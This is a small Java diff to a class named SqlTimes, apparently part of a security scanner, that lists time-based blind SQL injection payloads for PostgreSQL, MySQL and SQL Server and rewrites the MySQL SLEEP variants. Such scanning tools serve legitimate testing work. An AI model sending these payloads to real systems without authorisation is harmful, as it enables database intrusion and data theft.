@@ -12,11 +12,11 @@ import java.util.Optional;
 final class SqlTimes {
     private static final List<String> OF_TEXT = List.of(
             "'||(SELECT '' FROM PG_SLEEP(%s))||'",
-            "' AND (SELECT 4711 FROM (SELECT SLEEP(%s))x)=4711 AND 'z'='z", "';WAITFOR DELAY '0:0:%s'--");
+            "' AND (SELECT x.s FROM (SELECT SLEEP(%s) AS s)x)=0 AND 'z'='z", "';WAITFOR DELAY '0:0:%s'--");
 
     private static final List<String> OF_NUMBERS = List.of(
             " AND 4711=(SELECT 4711 FROM PG_SLEEP(%s))",
-            " AND (SELECT 4711 FROM (SELECT SLEEP(%s))x)=4711", ";WAITFOR DELAY '0:0:%s'--");
+            " AND (SELECT x.s FROM (SELECT SLEEP(%s) AS s)x)=0", ";WAITFOR DELAY '0:0:%s'--");
 
     private SqlTimes() {}
 
